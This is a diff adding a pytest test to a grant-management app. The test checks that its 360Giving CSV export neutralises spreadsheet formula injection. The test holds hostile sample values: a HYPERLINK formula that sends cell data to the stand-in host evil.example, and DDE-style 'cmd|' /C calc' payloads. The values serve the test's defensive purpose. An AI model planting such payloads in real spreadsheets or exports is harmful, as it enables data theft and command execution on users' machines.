@@ -11,6 +11,21 @@ import pytest
 from funding.export.schemas import REQUIRED_FIELDS, required_field_errors
 
 Headers = Callable[..., dict[str, str]]
+KNIFE_LINE_2020 = "8cc3a269-e9dd-5f2f-86e5-a4d11f13974d"  # £150,000.00, nothing awarded
+MEDWAY_COUNCIL = "09584578-2b27-5431-b8e5-0cf718a55d7a"
+
+
+def application(title: str, description: str) -> dict[str, Any]:
+    return {
+        "title": title,
+        "description": description,
+        "recipient_organisation_id": MEDWAY_COUNCIL,
+        "budget_line_id": KNIFE_LINE_2020,
+        "amount_applied_pence": 123_450,
+        "currency": "GBP",
+        "planned_start_on": "2020-07-01",
+        "planned_end_on": "2021-03-31",
+    }
 
 
 class TestRequiredFields:
@@ -111,6 +126,42 @@ class TestExportCsv:
         countywide = next(r for r in rows if r["Title"] == "StreetSoccer 2020/21")
         assert countywide["Beneficiary Location:Name"] == "Kent and Medway"
         assert all(r["Identifier"].startswith("360G-") and r["Title"] and r["Description"] for r in rows)
+
+    async def test_formulas_are_neutralised(
+        self, client: httpx.AsyncClient, officer: dict[str, str], director: dict[str, str]
+    ) -> None:
+        """Issue 13: a title or description a spreadsheet would run as a formula is written with a leading
+        apostrophe; the amount stays a number."""
+        hostile = {
+            "=": ('=HYPERLINK("https://evil.example/?d="&A2,"Grant")', "=1+1 workshops"),
+            "+": ("+Medway workshops", "+44 1634 000000+cmd|' /C calc'!A0"),
+            "-": ("-Medway workshops", "-2+3 sessions"),
+            "@": ("@SUM(1+1) workshops", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        }
+        for title, description in hostile.values():
+            grant = (await client.post("/v1/grants", json=application(title, description), headers=officer)).json()
+            for headers, body in (
+                (officer, {"to": "submitted"}),
+                (officer, {"to": "in_review"}),
+                (director, {"to": "approved", "award_date": "2020-06-15"}),
+            ):
+                response = await client.post(
+                    f"/v1/grants/{grant['id']}/transitions",
+                    json=body,
+                    headers={**headers, "If-Match": f'"v{grant["version"]}"'},
+                )
+                assert response.status_code == 200, response.text
+                grant = response.json()
+        response = await client.get("/v1/exports/360giving.csv?financial_year=2020-21", headers=officer)
+        assert response.status_code == 200
+        rows = {r["Title"]: r for r in csv.DictReader(io.StringIO(response.text))}
+        for title, description in hostile.values():
+            row = rows["'" + title]
+            assert row["Description"] == "'" + description
+            assert row["Amount Awarded"] == "1234.50"
+        for row in rows.values():
+            for column, value in row.items():
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
 
     async def test_forbidden(self, client: httpx.AsyncClient, as_role: Headers) -> None:
         refused = await client.get("/v1/exports/360giving.csv", headers=as_role("guardian"))
